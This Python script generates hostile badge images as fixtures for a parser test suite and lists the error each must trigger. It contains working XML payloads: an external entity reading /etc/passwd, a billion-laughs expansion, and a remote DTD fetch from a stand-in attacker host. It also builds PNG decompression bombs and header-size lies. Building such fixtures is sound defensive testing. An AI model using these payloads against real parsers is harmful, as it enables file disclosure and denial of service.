"""Build the hostile badge images in this folder, each named by what is wrong with it.

Run ``python3 tests/invalid/images/make_hostile.py`` to regenerate them; the output is
deterministic (tests/unit/test_baking_png.py checks the committed files match). Every file is
small: the "bombs" are lies in headers or highly compressible data, never big files.

Expected outcome of ``badgekit extract`` on each file is in ``EXPECTED`` (a fragment of the
one-line error message).
"""

from __future__ import annotations

import struct
import sys
import zlib
from pathlib import Path

HERE = Path(__file__).parent
SIGNATURE = b"\x89PNG\r\n\x1a\n"
CREDENTIAL = '{"@context": ["https://www.w3.org/ns/credentials/v2"], "id": "urn:uuid:00000000-0000-4000-8000-000000000001"}'

#: An OB 2.0 assertion (hosted verification), baked beside the OB 3.0 credential in the "and-ob2" files.
OB2_ASSERTION = '{"@context": "https://w3id.org/openbadges/v2", "type": "Assertion", "id": "https://example.org/assertions/2"}'


def chunk(ctype: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + ctype + data + struct.pack(">I", zlib.crc32(ctype + data))


def ihdr(width: int, height: int) -> bytes:
    return chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))


def tiny_png(extra: list[bytes] | None = None, *, width: int = 8, height: int = 8) -> bytes:
    """An 8x8 RGB gradient, with ``extra`` chunks inserted before IEND."""
    rows = b"".join(b"\x00" + b"".join(bytes((x * 32, y * 32, 128)) for x in range(8)) for y in range(8))
    idat = chunk(b"IDAT", zlib.compress(rows, 9))
    return SIGNATURE + ihdr(width, height) + idat + b"".join(extra or []) + chunk(b"IEND", b"")


def itxt(keyword: bytes, text: bytes, *, compressed: bool = False) -> bytes:
    body = zlib.compress(text, 9) if compressed else text
    return chunk(b"iTXt", keyword + b"\x00" + (b"\x01" if compressed else b"\x00") + b"\x00" + b"\x00\x00" + body)


def credential_chunk(text: str = CREDENTIAL) -> bytes:
    return itxt(b"openbadgecredential", text.encode())


def build() -> dict[str, bytes]:
    """Every hostile file, by name."""
    good = tiny_png([credential_chunk()])
    iend = good.rindex(b"IEND") - 4
    files: dict[str, bytes] = {}
    files["png-truncated.png"] = good[: len(good) // 2]
    files["png-no-iend.png"] = good[:iend]
    bad = bytearray(good)
    bad[iend - 1] ^= 0xFF  # last CRC byte of the credential chunk
    files["png-bad-crc.png"] = bytes(bad)
    files["png-two-credential-chunks.png"] = tiny_png([credential_chunk(), credential_chunk(CREDENTIAL.replace("1", "2"))])
    # A compressed credential that would inflate to 16 MiB: refused without inflating.
    files["png-compressed-itxt-bomb.png"] = tiny_png([itxt(b"openbadgecredential", b" " * (16 * 1024 * 1024), compressed=True)])
    files["png-credential-in-ztxt.png"] = tiny_png([chunk(b"zTXt", b"openbadgecredential\x00\x00" + zlib.compress(CREDENTIAL.encode()))])
    # IHDR claims 100000 x 100000 pixels (a 30 GB canvas) over a few bytes of image data.
    files["png-huge-dimensions.png"] = tiny_png([credential_chunk()], width=100_000, height=100_000)
    # A chunk whose length field says 2 GiB - 1 in a tiny file.
    files["png-oversized-chunk-length.png"] = good[:33] + struct.pack(">I", 0x7FFFFFFF) + b"tEXt" + b"x" * 16
    files["png-trailing-data.png"] = good + b"hidden payload after IEND"
    files["png-no-credential.png"] = tiny_png()
    files["png-bad-signature.png"] = b"\x89PNX\r\n\x1a\n" + good[8:]
    files["png-first-chunk-not-ihdr.png"] = SIGNATURE + chunk(b"tEXt", b"a\x00b") + good[8:]
    # OB 3.0 readers see the credential, OB 2.0 readers the assertion: two badges in one file.
    files["png-credential-and-ob2-assertion.png"] = tiny_png([credential_chunk(), itxt(b"openbadges", OB2_ASSERTION.encode())])

    svg_head = '<?xml version="1.0" encoding="UTF-8"?>\n'
    ns = 'xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="https://purl.imsglobal.org/ob/v3p0"'
    body = f"<openbadges:credential><![CDATA[{CREDENTIAL}]]></openbadges:credential>"
    files["svg-external-entity.svg"] = (
        svg_head + '<!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
        f"<svg {ns}><openbadges:credential><![CDATA[&xxe;]]></openbadges:credential><text>&xxe;</text></svg>\n"
    ).encode()
    files["svg-billion-laughs.svg"] = (
        svg_head + "<!DOCTYPE svg [\n"
        + '<!ENTITY lol "lol">\n'
        + "".join(f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">\n' for i in range(1, 10))
        + f"]>\n<svg {ns}>{body}<text>&lol9;</text></svg>\n"
    ).encode()
    files["svg-parameter-entity.svg"] = (
        svg_head + '<!DOCTYPE svg [<!ENTITY % remote SYSTEM "http://attacker.invalid/evil.dtd"> %remote;]>\n'
        f"<svg {ns}>{body}</svg>\n"
    ).encode()
    files["svg-two-credentials.svg"] = f"<svg {ns}>{body}{body}</svg>\n".encode()
    files["svg-verify-and-body.svg"] = (
        f'<svg {ns}><openbadges:credential verify="aaa.bbb.ccc"><![CDATA[{CREDENTIAL}]]></openbadges:credential></svg>\n'
    ).encode()
    files["svg-not-well-formed.svg"] = f"<svg {ns}>{body}<g></svg>\n".encode()
    files["svg-root-not-svg.svg"] = f'<html xmlns:openbadges="https://purl.imsglobal.org/ob/v3p0"><svg/>{body}</html>\n'.encode()
    files["svg-no-credential.svg"] = b'<svg xmlns="http://www.w3.org/2000/svg"><rect width="1" height="1"/></svg>\n'
    files["svg-credential-and-ob2-assertion.svg"] = (
        f'<svg {ns}>{body}<openbadges:assertion xmlns:openbadges="http://openbadges.org">'
        f"<![CDATA[{OB2_ASSERTION}]]></openbadges:assertion></svg>\n"
    ).encode()
    files["svg-undefined-entity.svg"] = f"<svg {ns}>{body}<text>&nbsp;</text></svg>\n".encode()
    # An encoding Python's codecs do not know: was a LookupError (exit 70 in extract).
    files["svg-unknown-encoding.svg"] = f'<?xml version="1.0" encoding="x-bogus-8"?>\n<svg {ns}>{body}</svg>\n'.encode()
    return files


#: File name -> fragment of the error message badgekit must give.
EXPECTED = {
    "png-truncated.png": "truncated PNG",
    "png-no-iend.png": "no IEND chunk",
    "png-bad-crc.png": "bad CRC in iTXt chunk",
    "png-two-credential-chunks.png": "2 'openbadgecredential' chunks",
    "png-compressed-itxt-bomb.png": "compressed iTXt 'openbadgecredential' chunk",
    "png-credential-in-ztxt.png": "compressed zTXt chunk",
    "png-huge-dimensions.png": "100000x100000 pixels",
    "png-oversized-chunk-length.png": "more than the 16 MiB limit",
    "png-trailing-data.png": "trailing data after the IEND chunk",
    "png-no-credential.png": "no baked credential",
    "png-bad-signature.png": "not a PNG or SVG image",
    "png-first-chunk-not-ihdr.png": "first chunk must be a 13-byte IHDR",
    "png-credential-and-ob2-assertion.png": "an OB 2.0 'openbadges' chunk",
    "svg-external-entity.svg": "internal subset",
    "svg-billion-laughs.svg": "internal subset",
    "svg-parameter-entity.svg": "internal subset",
    "svg-two-credentials.svg": "2 <openbadges:credential> elements",
    "svg-verify-and-body.svg": "both a verify attribute and a body",
    "svg-not-well-formed.svg": "not well-formed XML",
    "svg-root-not-svg.svg": "not an SVG <svg>",
    "svg-no-credential.svg": "no baked credential",
    "svg-undefined-entity.svg": "undefined entity",
    "svg-unknown-encoding.svg": "unknown encoding: x-bogus-8",
    "svg-credential-and-ob2-assertion.svg": "an OB 2.0 <openbadges:assertion> element",
}


def main() -> int:
    for name, data in build().items():
        (HERE / name).write_bytes(data)
    print(f"wrote {len(EXPECTED)} files to {HERE}", file=sys.stderr)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
